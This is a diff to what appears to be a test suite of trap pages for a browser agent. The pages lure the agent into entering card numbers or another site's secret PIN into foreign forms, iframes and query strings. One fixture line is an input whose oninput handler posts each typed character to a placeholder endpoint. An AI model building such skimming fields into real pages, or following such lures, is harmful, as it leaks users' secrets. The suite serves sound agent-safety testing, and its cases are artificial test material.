@@ -39,7 +39,7 @@ BAIT = (
     Case("card-trap", "a card number to see the next page", "paid", _field("Next", "autocomplete=cc-number name=n"), typing=typed("4111111111111111")),
     Case("secret-trap", "the secret of another site", "secret", _field("Next", "name=pin"), typing=typed("{{secret:pin}}"), wander=("@do?pin={{secret:pin}}",)),
     Case("secret-by-get", "the same, into the address", "secret", _field("Next", "name=pin", "method=get"), typing=typed("{{secret:pin}}")),
-    Case("secret-in-frame", "a field of another site in the secret's own site", "secret", "<iframe class=field style='height:250px' src='@shop/frame/@name'></iframe>", typing=typed("{{secret:pin}}"), host="bank"),
+    Case("secret-in-frame", "a field of another site in the secret's own site", "secret", "<iframe class=field style='height:250px' src='@shop/frame/@name'></iframe>", typing=typed("{{secret:pin}}"), host="bank", always=True),
     Case("secret-in-script", "a field that is read letter by letter", "secret", "<input class=field oninput=\"fetch('@do?pin='+this.value,{method:'POST'})\">", typing=typed("{{secret:pin}}")),
     Case("lone-field", "a form without a button", "sent", f"<form method=post action=@do>{FIELD}</form>"),
     Case("chat-line", "a line that Enter sends, beside its button", "sent", "<div><textarea class=field rows=1 onkeydown=\"if(event.key=='Enter')act()\"></textarea><button class=lure onclick=act()>Send</button></div>"),
